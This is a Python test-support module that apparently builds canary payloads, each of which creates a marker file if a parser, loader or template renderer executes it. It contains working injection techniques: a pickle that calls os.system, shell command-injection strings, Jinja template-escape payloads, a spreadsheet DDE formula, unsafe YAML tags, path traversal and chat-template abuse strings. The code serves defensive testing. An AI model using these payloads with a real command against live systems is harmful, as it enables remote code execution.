"""Payloads that would write a file if anything executed them, and the file that shows it."""

import json
import os
import pickle
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path


class _Command:
    """What a pickle runs when it is loaded."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


@dataclass(frozen=True)
class Canary:
    """A file that only an executed payload writes.

    Args:
        path: of the file.
    """

    path: Path

    @property
    def is_there(self) -> bool:
        """Whether a payload was executed."""
        return self.path.exists()

    @cached_property
    def command(self) -> str:
        """For a shell."""
        return f"touch {self.path}"

    @cached_property
    def python(self) -> str:
        """A module that writes the file when it is imported."""
        return f"open({str(self.path)!r}, 'w').close()\n"

    @cached_property
    def pickle(self) -> bytes:
        """A pickle that writes the file when it is loaded."""
        return pickle.dumps(_Command(self.command))

    @cached_property
    def texts(self) -> tuple[str, ...]:
        """Texts for settings, names and values."""
        call, quoted = f"os.system({self.command!r})", json.dumps(self.command)
        return (
            f"$({self.command})",
            f"`{self.command}`",
            f"; {self.command} #",
            f"| {self.command}",
            f"__import__('os').{call}",
            f"{{{{ cycler.__init__.__globals__.{call} }}}}",
            f"{{{{ ''.__class__.__mro__[1].__subclasses__()|map('{self.command}')|list }}}}",
            f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x({quoted}) }}}}"
            "{% endfor %}",
            f"{{0.__class__.__init__.__globals__[{self.path}]}}",
            f"=cmd|'/c {self.command}'!A0",
            f"!!python/object/apply:os.system [{quoted}]",
            f"file://{self.path}",
            str(self.path),
            f"../../../../../../..{self.path}",
        )

    @cached_property
    def yaml(self) -> tuple[str, ...]:
        """Values of YAML that other loaders execute."""
        quoted = json.dumps(self.command)
        return (
            f"!!python/object/apply:os.system [{quoted}]",
            f"!!python/object/new:os.system [{quoted}]",
            "!!python/name:os.system",
            "!!python/module:os",
            f"!!python/object/apply:subprocess.Popen [[touch, {self.path}]]",
            f"!include {self.path}",
        )

    @cached_property
    def templates(self) -> tuple[str, ...]:
        """Templates of chats."""
        call = f"os.system({self.command!r})"
        return (
            f"{{{{ cycler.__init__.__globals__.{call} }}}}",
            f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').{call[3:]} }}}}",
            "{{ messages.__class__.__base__.__subclasses__() }}"
            f"{{{{ raise_exception({self.command!r}) }}}}",
            f"{{{{ lipsum.__globals__['os'].popen({self.command!r}).read() }}}}",
            f"{{{{ tojson.__globals__['json'].{call} }}}}",
            "{% for m in messages %}{{ m['content'].__class__ }}{% endfor %}",
            "{% set x = messages.append(messages[0]) %}{{ messages }}",
            "{{ 'x' * 10**15 }}",
            "{% for m in messages %}{{ m }}",
            "{{ messages[9]['content'] }}",
            "{% include '/etc/passwd' %}{% import 'os' as os %}",
            "{{ strftime_now('%' * 9999) }}",
            "{% generation %}x",
        )
